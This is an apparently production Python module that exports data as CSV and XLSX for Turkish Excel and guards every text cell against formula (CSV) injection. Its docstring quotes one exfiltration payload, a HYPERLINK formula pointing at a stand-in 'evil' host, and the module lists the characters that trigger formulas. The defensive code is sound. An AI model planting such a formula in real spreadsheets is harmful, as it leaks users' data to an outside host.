"""Safe exports: CSV and XLSX that open well in Turkish Excel and never run a formula.

Anything we export may hold text a customer or a provider typed (invoice numbers, reference
numbers, provider messages). A spreadsheet treats a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula, so ``=HYPERLINK("http://evil/?"&A1)`` in an invoice number would run on
the laptop of whoever opens the export (OWASP "CSV injection"). Every text cell goes through
:func:`neutralise_cell`; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from ..dates import to_istanbul

#: First characters that make a spreadsheet read a text cell as a formula (OWASP; ASVS 1.2.10
#: adds NUL). The full-width forms are converted to ASCII by some East-Asian Excel inputs.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")

#: Turkish Excel uses ';' as its list separator: a ','-separated file opens as one column.
DEFAULT_DELIMITER = ";"

#: Excel refuses longer cells (it reports the workbook as damaged).
XLSX_MAX_CELL_CHARS = 32_767

_DATETIME_FORMAT = "%d.%m.%Y %H:%M:%S"
_DATE_FORMAT = "%d.%m.%Y"
_XLSX_DATETIME_FORMAT = "dd.mm.yyyy hh:mm:ss"
_XLSX_DATE_FORMAT = "dd.mm.yyyy"
# Characters XML 1.0 cannot hold; openpyxl raises IllegalCharacterError on them.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def neutralise_cell(value: Any) -> Any:
    """Prefix ``'`` to text that a spreadsheet would run as a formula; leave everything else.

    Only strings are touched: ``-5`` stored as a number is a number, while the text ``"-5"``
    (or ``" =1+1"``, since some apps skip leading spaces) becomes ``"'-5"``.
    """
    if isinstance(value, str) and _needs_guard(value):
        return "'" + value
    return value


def unneutralise_cell(text: str) -> str:
    """Undo :func:`neutralise_cell` on text read back from one of our exports.

    Exact inverse: ``unneutralise_cell(neutralise_cell(t)) == t`` for every string ``t``.
    """
    if text.startswith("'") and _needs_guard(text[1:]):
        return text[1:]
    return text


def _needs_guard(text: str) -> bool:
    # Quotes already in front of a formula ("'=x") get one more, so that stripping exactly
    # one on the way back always restores the original text.
    text = text.lstrip("'")
    return text.startswith(FORMULA_TRIGGERS) or text.lstrip(" ").startswith(FORMULA_TRIGGERS)


# -- CSV ---------------------------------------------------------------------------------------


def to_csv_bytes(df: pd.DataFrame, *, delimiter: str = DEFAULT_DELIMITER) -> bytes:
    """The frame as CSV for Excel: UTF-8 with a BOM, ``;``-separated, text neutralised.

    The index is not written. Datetimes are written in Istanbul time as ``23.11.2026 14:30:00``
    and dates as ``23.11.2026``, the forms Turkish Excel and our importer both read.
    """
    header = [str(c) for c in df.columns]
    rows = (list(r) for r in df.itertuples(index=False, name=None))
    return _write_csv(header, rows, delimiter)


def records_to_csv_bytes(
    records: Iterable[Mapping[str, Any]],
    *,
    columns: list[str] | None = None,
    delimiter: str = DEFAULT_DELIMITER,
) -> bytes:
    """Dicts as CSV (columns: ``columns`` or the keys in first-seen order); missing keys are blank."""
    records = list(records)
    if columns is None:
        columns = _columns_of(records)
    rows = ([r.get(c) for c in columns] for r in records)
    return _write_csv(columns, rows, delimiter)


def failed_rows_csv(
    rows: Iterable[Mapping[str, Any]],
    *,
    error_column: str = "error",
    delimiter: str = DEFAULT_DELIMITER,
) -> bytes:
    """Rows that failed, as the user sent them plus their error message, ready to fix and upload again.

    Each dict holds the row's original cells (header → value) and its message under
    ``error_column``, which is written last. The importer ignores an ``error``/``hata`` column,
    so the fixed file goes straight back through :mod:`paynet_core.importing`.
    """
    rows = list(rows)
    columns = [c for c in _columns_of(rows) if c != error_column] + [error_column]
    return records_to_csv_bytes(rows, columns=columns, delimiter=delimiter)


def _columns_of(records: list[Mapping[str, Any]]) -> list[str]:
    columns: dict[str, None] = {}
    for record in records:
        columns.update(dict.fromkeys(str(k) for k in record))
    return list(columns)


def _write_csv(header: list[str], rows: Iterable[list[Any]], delimiter: str) -> bytes:
    buffer = io.StringIO(newline="")
    # QUOTE_MINIMAL quotes cells holding the delimiter, quotes or line breaks (RFC 4180).
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([neutralise_cell(h) for h in header])
    for row in rows:
        writer.writerow([_csv_cell(v) for v in row])
    return buffer.getvalue().encode("utf-8-sig")


def _csv_cell(value: Any) -> str:
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, datetime):
        return (to_istanbul(value) if value.tzinfo else value).strftime(_DATETIME_FORMAT)
    if isinstance(value, date):
        return value.strftime(_DATE_FORMAT)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, (int, Decimal, time)):
        return str(value)
    return neutralise_cell(str(value))


# -- XLSX --------------------------------------------------------------------------------------


_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")


def sheet_title(name: str) -> str:
    """A title Excel accepts: no []:*?/\\, no quote at either end, at most 31 characters.

    The sheet is only named after the file, so a file name such as ``a[1].xlsx`` still works."""
    return _SHEET_BAD.sub("_", name)[:31].strip("'") or "Data"


def to_xlsx_bytes(df: pd.DataFrame, *, sheet_name: str = "Data") -> bytes:
    """The frame as an XLSX workbook: text neutralised, integers as integers, dates as dates.

    Aware datetimes are written in Istanbul local time (Excel has no time zones).
    """
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet_title(sheet_name))
    bold = Font(bold=True)
    header = []
    for name in df.columns:
        cell = WriteOnlyCell(ws, value=_xlsx_text(str(name)))
        cell.font = bold
        header.append(cell)
    ws.append(header)
    for row in df.itertuples(index=False, name=None):
        ws.append([_xlsx_cell(ws, v) for v in row])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _xlsx_cell(ws, value: Any) -> Any:
    value = _plain(value)
    if isinstance(value, float) and not math.isfinite(value):
        return None  # Excel has no infinity
    if value is None or isinstance(value, (bool, int, float)):
        return value
    if isinstance(value, Decimal):
        # Exact TL amounts: a Decimal with two places is written as its float, which Excel shows
        # exactly (15 significant digits); kuruş ints are the usual path and are unaffected.
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, datetime):
        cell = WriteOnlyCell(
            ws, value=to_istanbul(value).replace(tzinfo=None) if value.tzinfo else value
        )
        cell.number_format = _XLSX_DATETIME_FORMAT
        return cell
    if isinstance(value, date):
        cell = WriteOnlyCell(ws, value=value)
        cell.number_format = _XLSX_DATE_FORMAT
        return cell
    if isinstance(value, time):
        return value
    return _xlsx_text(str(value))


def _xlsx_text(text: str) -> str:
    # Neutralise first: a leading NUL or tab must be seen before it is replaced.
    text = neutralise_cell(text)
    text = _XML_ILLEGAL.sub("\ufffd", text)
    if len(text) > XLSX_MAX_CELL_CHARS:
        text = text[: XLSX_MAX_CELL_CHARS - 1] + "…"
    return text


def _plain(value: Any) -> Any:
    """numpy/pandas scalars to plain Python; every kind of missing value to None."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, float):
        return None if math.isnan(value) else value
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):  # numpy scalar
        value = value.item()
        if isinstance(value, float) and math.isnan(value):
            return None
        return value
    try:
        if pd.isna(value):
            return None
    except (TypeError, ValueError):  # lists and other non-scalars
        pass
    return value
